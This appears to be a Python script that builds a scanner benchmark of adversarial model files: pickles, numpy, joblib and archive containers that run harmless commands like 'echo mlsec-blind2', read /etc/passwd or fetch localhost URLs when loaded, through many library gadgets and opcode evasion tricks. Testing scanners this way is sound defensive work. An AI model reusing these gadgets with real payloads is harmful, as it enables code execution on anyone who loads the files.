#!/usr/bin/python3
"""Writes bench/scan/blind2/adversarial/: files that run code (or touch files/network) when a
loader opens them, written opcode by opcode or byte by byte. NOTHING here is ever loaded:
pickletools.dis (a parser) is the only thing that reads the pickles back.

Every payload is harmless: `echo mlsec-blind2`, paths under /tmp/mlsec_blind2*,
http://127.0.0.1:9/ (the discard port).
"""
import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickletools
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pk import P, kwcall  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'adversarial')
CMD = 'echo mlsec-blind2'
PY = "__import__('os').system('echo mlsec-blind2')"
URL = 'http://127.0.0.1:9/mlsec-blind2'
TMP = '/tmp/mlsec_blind2'
ROWS = []
FIXED_TIME = (2026, 1, 1, 0, 0, 0)


def add(name, data, cls, source, expected='not-clean', check_pickle=True):
    assert len(data) < 200_000, name
    if check_pickle:
        pickletools.dis(data, out=io.StringIO())  # parses only
    with open(os.path.join(OUT, name), 'wb') as f:
        f.write(data)
    ROWS.append((name, cls, source, expected))


def simple(module, name, *args, proto=4):
    return P(proto).call(module, name, *args).stop()


def payload(proto=3):
    """A plain malicious pickle (used inside containers)."""
    return P(proto).call('os', 'system', CMD).stop()


# ---------------------------------------------------------------- innocent-named evaluators
def evaluators():
    c = 'library helper evaluates a string argument (string-only payload)'
    add('sympy_sympify_str.pkl', simple('sympy', 'sympify', PY), c,
        'sympy.sympify(str) -> parse_expr -> eval (sympy docs: "uses eval, do not use on unsanitized input")')
    add('sympy_core_sympify_str.pkl', simple('sympy.core.sympify', 'sympify', PY), c, 'same, full module path')
    add('sympy_simplify_str.pkl', simple('sympy', 'simplify', PY), c, 'sympy.simplify(str) sympifies its argument first')
    add('sympy_parse_expr.pkl', simple('sympy.parsing.sympy_parser', 'parse_expr', PY), c, 'parse_expr -> eval_expr -> eval')
    add('sympy_eval_expr.pkl', P(4).glob('sympy.parsing.sympy_parser', 'eval_expr').mark().s(PY).empty_dict().empty_dict()
        .tup().reduce().stop(), c, 'eval_expr(code, local_dict, global_dict) is eval')
    add('sympy_kerns.pkl', simple('sympy.core.sympify', 'kernS', PY), c, 'kernS -> sympify')
    add('sympy_s_call.pkl', P(4).sg('sympy', 'S').mark().s(PY).tup().reduce().stop(), c,
        'sympy.S(str) is SingletonRegistry.__call__ = sympify')
    add('sympy_get_class_import.pkl', P(4).glob('sympy.utilities.source', 'get_class').mark().s('os.system').tup().reduce()
        .mark().s(CMD).tup().reduce().stop(), 'library helper imports by dotted name',
        'sympy.utilities.source.get_class(dotted) = __import__ + getattr')
    add('sympy_import_module.pkl', P(4).glob('operator', 'attrgetter').mark().s('system').tup().reduce()
        .glob('sympy.external.importtools', 'import_module').mark().s('os').tup().reduce().tup1().reduce()
        .mark().s(CMD).tup().reduce().stop(), 'library helper imports by name',
        'sympy.external.importtools.import_module(name) = __import__')
    add('sympy_runtests_subprocess.pkl', simple('sympy.testing.runtests', 'run_in_subprocess_with_hash_randomization',
                                                'system', 'os'), 'library test helper spawns python',
        'runs `python -c "import os; os.system()"` in a subprocess')
    add('sympy_preview.pkl', simple('sympy.printing.preview', 'preview', 'x', 'file', TMP + '.png'),
        'library helper spawns a program', 'preview runs latex/dvipng on the expression')
    add('pil_imagemath_eval.pkl', simple('PIL.ImageMath', 'eval', "exec(\"" + PY.replace("'", "\\'") + "\")"), c,
        'CVE-2023-50447 (Pillow < 10.2 ImageMath.eval arbitrary code)')
    add('pil_imagemath_unsafe_eval.pkl', simple('PIL.ImageMath', 'unsafe_eval', PY), c,
        'Pillow >= 10.3 renamed the evaluator unsafe_eval (still eval)')
    add('numexpr_evaluate.pkl', simple('numexpr', 'evaluate', PY), c, 'CVE-2023-39631 (numexpr < 2.8.5 evaluate -> eval)')
    add('numexpr_necompiler_evaluate.pkl', simple('numexpr.necompiler', 'evaluate', PY), c, 'CVE-2023-39631, full path')
    add('tables_expr.pkl', simple('tables.expression', 'Expr', PY), c, 'PyTables Expr compiles its string with numexpr')
    add('numpy_f2py_myeval.pkl', simple('numpy.f2py.crackfortran', 'myeval', PY), c,
        'numpy/f2py/crackfortran.py myeval(e) = eval(e)')
    add('torch_fx_exec_with_source.pkl', P(4).glob('torch.fx.graph_module', '_exec_with_source').mark()
        .s("import os\nos.system('echo mlsec-blind2')\n").empty_dict().tup().reduce().stop(), c,
        'torch/fx/graph_module.py _exec_with_source = exec(compile(src))')
    add('pandas_core_computation_eval.pkl', simple('pandas.core.computation.eval', 'eval', PY, None, None, 'python'), c,
        'pandas eval with engine=python under its full module path')
    add('matplotlib_use_module_backend.pkl', P(4).glob('matplotlib', 'use').mark().s('module://antigravity').true()
        .tup().reduce().stop(), 'library helper imports by name',
        "matplotlib.use('module://NAME') imports NAME (antigravity opens a browser on import)")


# ---------------------------------------------------------------- innocent-named importers
def importers():
    c = 'universal import gadget through an innocent class'
    # importlib.metadata.EntryPoint('x', 'os:system', 'g').load()('echo ...')
    p = P(4)
    p.glob('operator', 'methodcaller').mark().s('load').tup().reduce()
    p.glob('importlib.metadata', 'EntryPoint').mark().s('x').s('os:system').s('g').tup().reduce().tup1().reduce()
    p.mark().s(CMD).tup().reduce()
    add('importlib_metadata_entrypoint_load.pkl', p.stop(), c, 'EntryPoint.load() = import_module + getattr (like pkgutil.resolve_name, GHSA-vvpj-8cmc-gx39)')
    p = P(4)
    p.glob('operator', 'methodcaller').mark().s('resolve').tup().reduce()
    p.sg('pkg_resources', 'EntryPoint.parse').mark().s('x = os:system').tup().reduce().tup1().reduce()
    p.mark().s(CMD).tup().reduce()
    add('pkg_resources_entrypoint_resolve.pkl', p.stop(), c, 'pkg_resources.EntryPoint.parse(...).resolve() = __import__ (dotted STACK_GLOBAL)')
    add('torch_import_dotted_name.pkl', P(4).glob('torch._utils', '_import_dotted_name').mark().s('os.system').tup().reduce()
        .mark().s(CMD).tup().reduce().stop(), c, 'torch/_utils.py _import_dotted_name = __import__ + getattr')
    add('importlib_dunder_import.pkl', P(4).glob('operator', 'attrgetter').mark().s('system').tup().reduce()
        .glob('importlib', '__import__').mark().s('os').tup().reduce().tup1().reduce().mark().s(CMD).tup().reduce().stop(),
        c, 'importlib.__import__ is builtins.__import__')
    add('importlib_bootstrap_gcd_import.pkl', P(4).glob('operator', 'attrgetter').mark().s('system').tup().reduce()
        .glob('importlib._bootstrap', '_gcd_import').mark().s('os').tup().reduce().tup1().reduce().mark().s(CMD).tup()
        .reduce().stop(), c, 'importlib._bootstrap._gcd_import imports a module')
    add('frozen_importlib_gcd_import.pkl', P(4).glob('operator', 'attrgetter').mark().s('system').tup().reduce()
        .glob('_frozen_importlib', '_gcd_import').mark().s('subprocess').tup().reduce().tup1().reduce()
        .mark().s(CMD).tup().reduce().stop(), c, '_frozen_importlib alias of importlib._bootstrap')
    add('warnings_getcategory_import.pkl', simple('warnings', '_getcategory', 'antigravity.Warning'),
        'stdlib helper imports by name', 'warnings._getcategory does __import__(module) (antigravity opens a browser)')
    add('operator_getitem_sys_modules.pkl', P(4).glob('operator', 'attrgetter').mark().s('system').tup().reduce()
        .glob('operator', 'getitem').mark().sg('sys', 'modules').s('os').tup().reduce().tup1().reduce()
        .mark().s(CMD).tup().reduce().stop(), 'getattr on modules via sys.modules', "operator.getitem(sys.modules, 'os').system")
    for mod, name, why in [('antigravity', 'geohash', 'importing antigravity opens a web browser (module-level code)'),
                           ('unittest.__main__', 'main', 'unittest/__main__.py runs unittest discovery at import'),
                           ('lib2to3.__main__', 'main', 'lib2to3/__main__.py runs 2to3 at import'),
                           ('venv.__main__', 'main', 'venv/__main__.py creates an environment at import'),
                           ('idlelib.idle', 'idlelib', 'idlelib/idle.py starts IDLE at import')]:
        add('import_side_effect_%s.pkl' % mod.replace('.', '_'), P(4).sg(mod, name).stop(),
            'GLOBAL of a harmless name in a module whose import runs code', why)
    # names computed by a pure function the scanner cannot fold
    def computed(fn_mod, fn_name, arg, extra=()):
        p = P(4)
        p.glob('builtins', 'getattr').mark()
        p.glob('importlib', 'import_module').mark().glob(fn_mod, fn_name).mark().s(arg)
        for e in extra:
            p.const(e)
        p.tup().reduce().tup().reduce()
        p.s('system').tup().reduce().mark().s(CMD).tup().reduce()
        return p.stop()
    add('computed_codecs_rot13.pkl', computed('codecs', 'decode', 'bf', ('rot13',)), 'module name computed by a pure function',
        "codecs.decode('bf', 'rot13') == 'os'")
    p = P(4)
    p.glob('builtins', 'getattr').mark().glob('importlib', 'import_module').mark()
    p.glob('operator', 'methodcaller').mark().s('decode').tup().reduce()
    p.mark().glob('builtins', 'bytes.fromhex').mark().s('6f73').tup().reduce().tup().reduce()
    p.tup().reduce().s('system').tup().reduce().mark().s(CMD).tup().reduce()
    add('computed_bytes_fromhex.pkl', p.stop(), 'module name computed by a pure function', "bytes.fromhex('6f73').decode()")
    p = P(4)
    p.glob('builtins', 'getattr').mark().glob('importlib', 'import_module').mark()
    p.glob('operator', 'methodcaller').mark().s('lower').tup().reduce().mark().s('OS').tup().reduce()
    p.tup().reduce().s('system').tup().reduce().mark().s(CMD).tup().reduce()
    add('computed_methodcaller_lower.pkl', p.stop(), 'module name computed by a pure function', "methodcaller('lower')('OS')")
    add('computed_base64_name.pkl', computed('base64', 'b64decode', 'b3M='), 'module name computed by a pure function',
        "base64.b64decode('b3M=') == b'os' (import_module rejects bytes, then a str variant would pass)")


# ---------------------------------------------------------------- code objects and callers
def code_objects():
    def f():
        __import__('os').system('echo mlsec-blind2')
    co = f.__code__
    fields = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize, co.co_flags,
              co.co_code, co.co_consts, co.co_names, co.co_varnames, 'x', 'f', 'f', 1, co.co_linetable,
              co.co_exceptiontable, (), ())
    p = P(4)
    p.glob('types', 'FunctionType').mark().glob('types', 'CodeType').const(fields).reduce().empty_dict().tup().reduce()
    p.empty_tuple().reduce()
    add('types_codetype_functiontype.pkl', p.stop(), 'code object built from constants, no exec/eval/marshal global',
        'types.CodeType(...) + types.FunctionType(code, {})()')
    p = P(4)
    p.glob('types', 'FunctionType').mark().glob('builtins', 'compile').mark().s(PY).s('<x>').s('eval').tup().reduce()
    p.empty_dict().tup().reduce().empty_tuple().reduce()
    add('compile_functiontype.pkl', p.stop(), 'code object built from constants, no exec/eval/marshal global',
        'compile() + types.FunctionType(code, {})()')
    p = P(4)
    p.glob('builtins', 'list').glob('builtins', 'map').glob('builtins', 'eval').const([PY]).tup2().reduce()
    p.tup1().reduce()
    add('builtins_list_map_eval.pkl', p.stop(), 'argument-callable invoker', 'list(map(eval, [src]))')
    p = P(4)
    p.glob('builtins', 'list').glob('itertools', 'starmap').glob('subprocess', 'getoutput').const([(CMD,)]).tup2()
    p.reduce().tup1().reduce()
    add('itertools_starmap_getoutput.pkl', p.stop(), 'argument-callable invoker', 'list(itertools.starmap(getoutput, [(cmd,)]))')
    add('copy_reconstruct_call.pkl', P(4).glob('copy', '_reconstruct').mark().none().none().glob('subprocess', 'getoutput')
        .const((CMD,)).tup().reduce().stop(), 'argument-callable invoker',
        'copy._reconstruct(x, memo, func, args) calls func(*args) (looks like numpy _reconstruct)')
    # partial whose func is swapped by BUILD
    p = P(4)
    p.glob('functools', 'partial').mark().glob('builtins', 'len').tup().reduce()
    p.mark().glob('builtins', 'exec').const((PY,)).empty_dict().none().tup().build()
    p.empty_tuple().reduce()
    add('partial_build_swaps_func.pkl', p.stop(), 'BUILD/__setstate__ gadget',
        'partial(len) then BUILD (exec, (src,), {}, None): partial.__setstate__ replaces func')
    p = P(4)
    kwcall(p, 'numpy', 'load', [TMP + '.npy'], {'allow_pickle': True})
    add('partial_kwargs_numpy_load.pkl', p.stop(), 'functools.partial with keywords',
        'partial(numpy.load) + BUILD keywords {allow_pickle: True}: nested unpickle of a file')
    p = P(4)
    kwcall(p, 'subprocess', 'run', [CMD], {'shell': True})
    add('partial_kwargs_subprocess_run.pkl', p.stop(), 'functools.partial with keywords', 'partial(subprocess.run, shell=True)(cmd)')
    p = P(4)
    kwcall(p, 'pandas', 'read_csv', [URL], {'storage_options': None})
    add('partial_kwargs_pandas_read_csv.pkl', p.stop(), 'functools.partial with keywords', 'partial(pandas.read_csv)(url): download')
    # sklearn FunctionTransformer holding a command callable: runs when the model is used
    p = P(4)
    p.glob('copyreg', '_reconstructor').mark().sg('sklearn.preprocessing._function_transformer', 'FunctionTransformer')
    p.glob('builtins', 'object').none().tup().reduce()
    p.mark().s('func').glob('subprocess', 'getoutput').s('validate').false().s('accept_sparse').false()
    p.s('check_inverse').true().s('feature_names_out').none().s('kw_args').none().s('inverse_func').none()
    p.s('inv_kw_args').none().s('_sklearn_version').s('1.2.1').dct().build()
    add('sklearn_function_transformer_getoutput.pkl', p.stop(), 'deferred payload in an allow-listed estimator',
        'FunctionTransformer(func=subprocess.getoutput): transform(X) runs X as commands')


# ---------------------------------------------------------------- library helpers that touch files / network / processes
def io_helpers():
    c = 'library helper touches files, network or processes'
    rows = [
        ('numpy_loadtxt_url.pkl', 'numpy', 'loadtxt', (URL,), 'np.loadtxt opens URLs through DataSource (download)'),
        ('numpy_fromfile.pkl', 'numpy', 'fromfile', ('/etc/passwd',), 'reads a file'),
        ('numpy_lookfor.pkl', 'numpy', 'lookfor', ('x',), 'lookfor imports every module it walks'),
        ('numpy_f2py_compile.pkl', 'numpy.f2py', 'compile', ('      end\n', 'mlsec_blind2'), 'f2py.compile spawns a compiler and builds a module'),
        ('scipy_io_mmread.pkl', 'scipy.io', 'mmread', (TMP + '.mtx',), 'reads a file'),
        ('scipy_wavfile_read.pkl', 'scipy.io.wavfile', 'read', (TMP + '.wav',), 'reads a file'),
        ('scipy_readsav.pkl', 'scipy.io', 'readsav', (TMP + '.sav',), 'reads a file'),
        ('scipy_test_cython_extension.pkl', 'scipy._lib._testutils', '_test_cython_extension', (TMP, TMP), 'builds and imports an extension'),
        ('sklearn_load_files.pkl', 'sklearn.datasets', 'load_files', ('/etc',), 'reads every file under a folder'),
        ('sklearn_fetch_remote.pkl', 'sklearn.datasets._base', '_fetch_remote', (('x.csv', URL, '0' * 64), TMP), 'downloads a file'),
        ('pandas_read_html.pkl', 'pandas', 'read_html', (URL,), 'downloads'),
        ('pandas_read_xml.pkl', 'pandas', 'read_xml', (URL,), 'downloads (and parses XML with lxml)'),
        ('pandas_read_stata.pkl', 'pandas', 'read_stata', (URL,), 'downloads'),
        ('pandas_read_fwf.pkl', 'pandas.io.parsers.readers', 'read_fwf', (URL,), 'downloads'),
        ('pandas_read_clipboard.pkl', 'pandas.io.clipboards', 'read_clipboard', (), 'spawns xclip/xsel'),
        ('pandas_round_trip_pickle.pkl', 'pandas._testing', 'round_trip_pickle', (None, TMP + '.pkl'), 'writes then read_pickle: nested unpickle'),
        ('statsmodels_urlopen_cached.pkl', 'statsmodels.datasets.utils', '_urlopen_cached', (URL, TMP), 'downloads and writes a cache file'),
        ('statsmodels_get_file_obj.pkl', 'statsmodels.iolib.openfile', 'get_file_obj', (TMP, 'w'), 'opens a file for writing'),
        ('matplotlib_subprocess_run_helper.pkl', 'matplotlib.testing', 'subprocess_run_for_testing', (['sh', '-c', CMD],), 'runs a command'),
        ('matplotlib_rc_file.pkl', 'matplotlib', 'rc_file', (URL,), 'reads an rc file (URLs allowed)'),
        ('matplotlib_style_use_url.pkl', 'matplotlib.style', 'use', (URL,), 'style.use fetches a URL'),
        ('matplotlib_get_executable_info.pkl', 'matplotlib', '_get_executable_info', ('gs',), 'runs an executable'),
        ('pil_image_open.pkl', 'PIL.Image', 'open', ('/etc/passwd',), 'opens a file'),
        ('pil_eps_ghostscript.pkl', 'PIL.EpsImagePlugin', 'Ghostscript', (None, (1, 1), TMP), 'spawns ghostscript on a file'),
        ('pil_imageshow_show_file.pkl', 'PIL.ImageShow', 'show_file', (TMP,), 'spawns a viewer'),
        ('torch_hub_list.pkl', 'torch.hub', 'list', ('mlsec/blind2',), 'downloads a repo and imports hubconf.py'),
        ('torch_hub_help.pkl', 'torch.hub', 'help', ('mlsec/blind2', 'x'), 'downloads a repo and imports hubconf.py'),
        ('torch_cpp_extension_load.pkl', 'torch.utils.cpp_extension', 'load', ('m', [TMP + '.cpp']), 'compiles and imports C++'),
        ('torch_lite_interpreter_load.pkl', 'torch.jit.mobile', '_load_for_lite_interpreter', (TMP + '.ptl',), 'nested model load'),
        ('torch_tcpstore_bind.pkl', 'torch.distributed', 'TCPStore', ('0.0.0.0', 29500, 1, True), 'binds a TCP server'),
        ('torch_collect_env_info.pkl', 'torch.utils.collect_env', 'get_env_info', (), 'spawns pip/nvidia-smi/etc.'),
        ('torch_mp_rebuild_storage_filename.pkl', 'torch.multiprocessing.reductions', 'rebuild_storage_filename',
         (None, b'/torch_x', b'/mlsec', 8), 'connects to a shared-memory manager / opens shm by name'),
        ('joblib_loky_fork_exec.pkl', 'joblib.externals.loky.backend.fork_exec', 'fork_exec', (['python3', '-c', PY], []), 'fork + execve'),
        ('joblib_disk_delete_folder.pkl', 'joblib.disk', 'delete_folder', (TMP,), 'rmtree'),
        ('joblib_disk_rm_subdirs.pkl', 'joblib.disk', 'rm_subdirs', (TMP,), 'rmtree of subfolders'),
        ('joblib_memorized_result_get.pkl', 'joblib.memory', 'MemorizedResult', (TMP, 'f', 'a'), 'its get() unpickles a cached file; constructing it prepares a store'),
        ('xgboost_collective_init.pkl', 'xgboost.collective', 'init', (), 'joins a tracker over the network'),
        ('ctypes_util_find_library.pkl', 'ctypes.util', 'find_library', ('c',), 'spawns ldconfig/gcc'),
        ('posix_execv.pkl', 'posix', 'execv', ('/bin/sh', ['sh', '-c', CMD]), 'exec'),
        ('os_spawnvp.pkl', 'os', 'spawnvp', (0, 'sh', ['sh', '-c', CMD]), 'spawn'),
        ('posix_putenv.pkl', 'posix', 'putenv', ('LD_PRELOAD', TMP + '.so'), 'environment injection for later spawns'),
        ('shutil_unpack_archive.pkl', 'shutil', 'unpack_archive', (TMP + '.tar', '/tmp'), 'extracts files'),
        ('io_open_code.pkl', 'io', 'open_code', ('/etc/passwd',), 'opens a file'),
        ('socket_create_server.pkl', 'socket', 'create_server', (('0.0.0.0', 9),), 'binds a socket'),
        ('logging_sockethandler.pkl', 'logging.handlers', 'SocketHandler', ('127.0.0.1', 9), 'network handler'),
        ('logging_rotatingfilehandler.pkl', 'logging.handlers', 'RotatingFileHandler', (TMP + '.log',), 'creates a file'),
        ('dbm_open_create.pkl', 'dbm', 'open', (TMP + '.db', 'c'), 'creates a file'),
        ('zipfile_write.pkl', 'zipfile', 'ZipFile', (TMP + '.zip', 'w'), 'creates a file'),
    ]
    for name, mod, fn, args, why in rows:
        add(name, simple(mod, fn, *args), c, why)
    p = P(4)
    p.glob('operator', 'methodcaller').mark().s('retrieve').s(URL).s(TMP).tup().reduce()
    p.glob('urllib.request', 'URLopener').empty_tuple().reduce().tup1().reduce()
    add('urllib_urlopener_retrieve.pkl', p.stop(), c, 'URLopener().retrieve(url, file) via methodcaller')
    p = P(4)
    p.glob('operator', 'methodcaller').mark().s('load').tup().reduce()
    p.glob('pickle', 'Unpickler').mark().glob('io', 'BytesIO').mark().by(payload()).tup().reduce().tup().reduce()
    p.tup1().reduce()
    add('pickle_unpickler_class_load.pkl', p.stop(), 'nested unpickle through a class', 'pickle.Unpickler(BytesIO(b)).load()')
    npy = npy_bytes({'descr': '|O', 'fortran_order': False, 'shape': (1,)}, payload())
    p = P(4)
    p.glob('numpy.lib.format', 'read_array').mark().glob('io', 'BytesIO').mark().by(npy).tup().reduce().true().tup().reduce()
    add('numpy_format_read_array_nested.pkl', p.stop(), 'nested unpickle through a numpy helper',
        'numpy.lib.format.read_array(BytesIO(npy), allow_pickle=True) unpickles the object array')


# ---------------------------------------------------------------- opcode tricks
def opcodes():
    c = 'opcode-level hiding'
    p = P(4)
    p.mark().call('os', 'system', CMD).pop_mark()
    p.none()
    add('pop_mark_discards_call.pkl', p.stop(), c, 'call inside MARK..POP_MARK: result discarded, call still runs')
    p = P(4)
    p.call('os', 'system', CMD).pop().s('ok')
    add('pop_discards_call.pkl', p.stop(), c, 'call then POP: final object is a harmless string')
    p = P(4)
    p.s('posix').long_put(70000).pop().s('system').long_put(70001).pop()
    p.long_get(70000).long_get(70001).op(b'\x93').mark().s(CMD).tup().reduce()
    add('long_binput_names.pkl', p.stop(), c, 'STACK_GLOBAL names from LONG_BINGET at memo 70000')
    p = P(4)
    p.s8('os').s8('system').op(b'\x93').mark().s8(CMD).tup().reduce()
    add('binunicode8_names.pkl', p.stop(), c, 'STACK_GLOBAL names as BINUNICODE8')
    p = P(2)
    p.s('os').s('system').op(b'\x93').mark().s(CMD).tup().reduce()
    add('proto2_with_stack_global.pkl', p.stop(), c, 'PROTO 2 header but a protocol-4 STACK_GLOBAL (pickle does not enforce)')
    p = P(None)
    p.op(b'\x8c\x02os\x94\x8c\x06system\x94\x93').mark().s(CMD).tup().reduce()
    add('no_proto_stack_global.pkl', p.stop(), c, 'no PROTO opcode, protocol-4 opcodes anyway')
    p = P(2)
    p.op(b'\x80\x05').glob('os', 'system').mark().s(CMD).tup().reduce()
    add('second_proto_opcode.pkl', p.stop(), c, 'a second PROTO opcode mid-stream')
    p = P(4)
    p.glob('subprocess', 'getoutput').dup().pop().mark().s(CMD).tup().reduce()
    add('dup_callable.pkl', p.stop(), c, 'DUP of the callable before REDUCE')
    p = P(5)
    p.glob('os', 'system').op(b'\x97').tup1().reduce()
    add('next_buffer_arg.pkl', p.stop(), c, 'argument from NEXT_BUFFER (out-of-band): cannot be known statically')
    p = P(2)
    p.op(b'\x83\x07\x01').mark().s(CMD).tup().reduce()
    add('ext2_opcode.pkl', p.stop(), c, 'EXT2 code 263 (copyreg extension registry) as the callable')
    p = P(2)
    p.op(b'\x84' + struct.pack('<i', 0x12345)).mark().s(CMD).tup().reduce()
    add('ext4_opcode.pkl', p.stop(), c, 'EXT4 code as the callable')
    # frames split the names
    body = P(None).op(b'\x8c\x02os\x94').b
    body2 = P(None).op(b'\x8c\x06system\x94\x93').mark().s(CMD).tup().reduce().op(b'.').b
    data = b'\x80\x04' + b'\x95' + struct.pack('<Q', len(body)) + bytes(body) + b'\x95' + struct.pack('<Q', len(body2)) + bytes(body2)
    add('frames_split_names.pkl', data, c, 'STACK_GLOBAL names in two FRAMEs')
    # protocol 0 text pickle with the payload behind UNICODE escapes
    p = P(0)
    p.op(b'c__builtin__\nexec\n(V\\u005f\\u005fimport\\u005f\\u005f(\'os\').system(\'echo mlsec-blind2\')\ntR.')
    add('proto0_unicode_escapes.pkl', bytes(p.b), c, 'protocol 0, __builtin__.exec with \\u escapes in the source')
    p = P(4)
    p.mark().s('posix').s('system').op(b'\x93').mark().s(CMD).tup().reduce().op(b'l')
    add('call_inside_list.pkl', p.stop(), c, 'the call is an element of a LIST built with MARK')
    p = P(4)
    p.empty_dict().s('k').call('os', 'system', CMD).setitem()
    add('call_as_dict_value.pkl', p.stop(), c, 'the call is a dict value')


# ---------------------------------------------------------------- numpy / joblib containers
def npy_bytes(header, body, version=(1, 0)):
    h = repr(header)
    if version == (1, 0):
        total = 10 + len(h) + 1
        pad = (64 - total % 64) % 64
        h = h + ' ' * pad + '\n'
        return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(h)) + h.encode('latin1') + body
    total = 12 + len(h.encode('utf8')) + 1
    pad = (64 - total % 64) % 64
    h = h + ' ' * pad + '\n'
    return b'\x93NUMPY' + bytes(version) + struct.pack('<I', len(h.encode('utf8'))) + h.encode('utf8') + body


def numpy_containers():
    c = 'nested pickle in a numpy container'
    pl = payload()
    for name, descr, version in [('npy_descr_O8.npy', 'O8', (1, 0)),
                                 ('npy_descr_subarray_object.npy', ('|O', (2,)), (1, 0)),
                                 ('npy_nested_struct_object.npy', [('a', [('b', '|O')])], (1, 0)),
                                 ('npy_v2_object.npy', '|O', (2, 0)),
                                 ('npy_v3_utf8_object.npy', [('\u00e9', '|O')], (3, 0))]:
        add(name, npy_bytes({'descr': descr, 'fortran_order': False, 'shape': (1,)}, pl), c,
            'np.load(allow_pickle=True) unpickles object data; descr spelled %r, version %s' % (descr, version),
            check_pickle=False)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        zi = zipfile.ZipInfo('weights.npy', FIXED_TIME)
        zi.compress_type = zipfile.ZIP_STORED
        z.writestr(zi, npy_bytes({'descr': '<f8', 'fortran_order': False, 'shape': (2,)}, b'\0' * 16))
        zi = zipfile.ZipInfo('meta', FIXED_TIME)
        zi.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(zi, npy_bytes({'descr': '|O', 'fortran_order': False, 'shape': (1,)}, pl))
    add('npz_deflated_member_without_ext.npz', buf.getvalue(), c,
        "np.load(npz)['meta'] reads member 'meta' (no .npy), deflated, object dtype", check_pickle=False)
    # joblib: NumpyArrayWrapper with a structured dtype that has an object field -> joblib pickle.loads the data
    inner = payload(4)
    w = P(4)
    w.glob('joblib.numpy_pickle', 'NumpyArrayWrapper').empty_tuple().newobj()
    w.mark().s('subclass').glob('numpy', 'ndarray').s('shape').const((1,)).s('order').s('C')
    w.s('dtype').glob('numpy', 'dtype').mark().const([('a', '|O')]).false().true().tup().reduce()
    w.s('allow_mmap').false().dct().build()
    data = bytes(w.b) + inner + b'.'
    add('joblib_structured_object_field.joblib', data, 'nested pickle in joblib',
        'joblib read_array: dtype.hasobject (a structured field is object) -> pickle.load of the data after BUILD',
        check_pickle=False)
    import lz4.frame
    js = P(4).call('os', 'system', CMD).stop()
    add('joblib_lz4_checksums.joblib', lz4.frame.compress(js, block_checksum=True, content_checksum=True, store_size=True,
                                                          block_linked=False), 'compression',
        'lz4 frame with block/content checksums and stored size', check_pickle=False)
    half = len(js) // 2
    add('joblib_lz4_two_frames.joblib', lz4.frame.compress(js[:half]) + lz4.frame.compress(js[half:]), 'compression',
        'two concatenated lz4 frames, the pickle split across them (lz4.frame.open reads both)', check_pickle=False)
    add('joblib_zlib_level9.joblib', zlib.compress(js, 9), 'compression', 'plain zlib stream (joblib sniffs 0x78) level 9',
        check_pickle=False)


# ---------------------------------------------------------------- compression and archive containers
def containers():
    c = 'compression container'
    pl = payload(4)
    half = len(pl) // 2
    add('gzip_split_two_members.pkl.gz', gzip.compress(pl[:half], mtime=0) + gzip.compress(pl[half:], mtime=0), c,
        'pickle split across two gzip members (gzip.open concatenates members)', check_pickle=False)
    add('bz2_split_two_streams.pkl.bz2', bz2.compress(pl[:half]) + bz2.compress(pl[half:]), c,
        'pickle split across two bz2 streams (multi-stream)', check_pickle=False)
    add('xz_split_two_streams.pkl.xz', lzma.compress(pl[:half]) + lzma.compress(pl[half:]), c,
        'pickle split across two xz streams', check_pickle=False)
    gz = gzip.compress(pl, mtime=0)
    # gzip header with FEXTRA + FNAME + FCOMMENT fields set
    flags = 0x04 | 0x08 | 0x10
    hdr = b'\x1f\x8b\x08' + bytes([flags]) + b'\0\0\0\0' + b'\x00\x03'
    extra = b'AB\x04\x00junk'
    body = gz[10:]
    data = hdr + struct.pack('<H', len(extra)) + extra + b'model.pkl\0' + b'a comment\0' + body
    add('gzip_header_fields.pkl.gz', data, c, 'gzip with FEXTRA, FNAME and FCOMMENT header fields', check_pickle=False)
    add('lzma_alone.pkl.lzma', lzma.compress(pl, format=lzma.FORMAT_ALONE), c, '.lzma (LZMA-alone) as joblib accepts',
        check_pickle=False)
    # tar variants (pandas read_pickle compression='tar' reads the single member)
    def tar(mode, members):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode=mode, format=tarfile.GNU_FORMAT) as t:
            for n, d in members:
                ti = tarfile.TarInfo(n)
                ti.size = len(d)
                ti.mtime = 0
                t.addfile(ti, io.BytesIO(d))
        return buf.getvalue()
    add('pandas_tar_xz.pkl.tar.xz', tar('w:xz', [('frame.pkl', pl)]), 'archive container',
        'pandas.read_pickle infers tar from .tar.xz', check_pickle=False)
    add('pandas_tar_bz2.pkl.tar.bz2', tar('w:bz2', [('frame.pkl', pl)]), 'archive container', 'tar.bz2', check_pickle=False)
    add('tar_gnu_longname.tar', tar('w', [('d/' + 'x' * 150 + '/model.pkl', pl)]), 'archive container',
        'member name > 100 bytes (GNU ././@LongLink)', check_pickle=False)
    add('tar_second_member.tgz', tar('w:gz', [('README', b'hello\n'), ('model.pkl', pl)]), 'archive container',
        'payload is the second member', check_pickle=False)
    import py7zr
    for name, filt in [('sevenzip_lzma2.7z', py7zr.FILTER_LZMA2), ('sevenzip_bzip2.7z', py7zr.FILTER_BZIP2),
                       ('sevenzip_deflate.7z', py7zr.FILTER_DEFLATE)]:
        import tempfile
        with tempfile.TemporaryDirectory() as td:
            for n, d in [('readme.txt', b'readme\n'), ('data.pkl', pl)]:
                with open(os.path.join(td, n), 'wb') as f:
                    f.write(d)
                os.utime(os.path.join(td, n), (1767225600, 1767225600))
            target = os.path.join(td, 'out.7z')
            with py7zr.SevenZipFile(target, 'w', filters=[{'id': filt}]) as z:
                z.write(os.path.join(td, 'readme.txt'), 'readme.txt')
                z.write(os.path.join(td, 'data.pkl'), 'archive/data.pkl')
            with open(target, 'rb') as f:
                blob = f.read()
        add(name, blob, 'archive container', '7z (nullifAI distributed 7z-compressed torch files), coder %s' % filt,
            check_pickle=False)


# ---------------------------------------------------------------- torch zips and legacy streams
def zbytes(members, comment=b''):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:
        for n, d in members:
            z.writestr(zipfile.ZipInfo(n, FIXED_TIME), d)
        z.comment = comment
    return buf.getvalue()


def torch_containers():
    c = 'torch zip with odd member names'
